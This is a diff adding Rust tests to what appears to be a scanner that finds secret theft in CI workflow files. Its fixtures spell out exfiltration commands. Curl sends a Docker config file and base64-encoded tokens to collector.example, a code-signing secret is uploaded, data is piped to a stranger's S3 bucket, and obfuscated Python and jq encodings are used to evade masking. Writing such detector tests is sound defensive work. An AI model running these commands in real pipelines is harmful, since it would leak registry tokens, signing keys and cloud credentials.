@@ -184,3 +184,74 @@ fn words_of_an_array_and_other_runtimes() {
         });
     }
 }
+
+/// An action leaves the login that it got in a file, and the next step reads it there.
+#[test]
+fn a_login_that_an_action_left() {
+    let workflow = |run: &str| {
+        format!(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: docker/login-action@v3\n        with: {{username: me, password: '${{{{ secrets.DOCKERHUB_TOKEN }}}}'}}\n      - run: {run}\n"
+        )
+    };
+    let theft = workflow("curl -s --data-binary @$HOME/.docker/config.json https://collector.example/");
+    found_in(&Whole {
+        name: "docker login",
+        workflow: Box::leak(theft.into_boxed_str()),
+        secrets: &["DOCKERHUB_TOKEN"],
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    });
+    workflow_at_most_exposed("a push", &workflow("docker push me/it:1"));
+}
+
+#[test]
+fn other_accounts_and_encoded_loot() {
+    found(&Way {
+        name: "a bucket by a key in the file",
+        shell: "bash",
+        script: "export AWS_ACCESS_KEY_ID=AKIAPLACEHOLDER0000 AWS_SECRET_ACCESS_KEY=placeholder\necho \"$A $B\" | openssl enc -aes-256-cbc -pass pass:x -a | aws s3 cp - s3://stranger/x",
+        later: "",
+        secrets: ways::BOTH,
+        place: "stranger.s3.amazonaws.com",
+        verdict: Verdict::Malicious,
+    });
+    stolen(
+        "DOCKERHUB_TOKEN",
+        "echo \"$S\" | openssl base64 -A | curl -sd @- https://collector.example/q",
+        "collector.example",
+    );
+    stolen(
+        "CODE_SIGN_PFX",
+        "echo \"$S\" > a; curl -s -F f=@a https://collector.example/w",
+        "collector.example",
+    );
+    no_theft("DOCKERHUB_TOKEN", "echo \"$S\" | docker login -u me --password-stdin registry.widgets.example");
+}
+
+#[test]
+fn names_that_are_looked_up_while_running() {
+    found(&Way {
+        name: "getattr",
+        shell: "python",
+        script: "m = __import__('\\x75rllib.request', fromlist=['x'])\nf = getattr(m, 'url' + 'open')\ne = __import__('os').environ\nf('https://collector.example/?' + e['A'] + e['B'])",
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    });
+}
+
+/// `jq` takes a secret apart into characters, or encodes it twice.
+#[test]
+fn jq_changes_what_it_prints() {
+    for script in ["jq -n 'env.S | explode | map(.+1) | implode'", "jq -nr 'env.S | @base64 | @base64'"] {
+        let text = job("THING", script).replace("      - run: make\n", "");
+        found_in(&Whole {
+            name: script,
+            workflow: Box::leak(text.into_boxed_str()),
+            secrets: &["THING"],
+            place: "workflow-log",
+            verdict: Verdict::Malicious,
+        });
+    }
+}
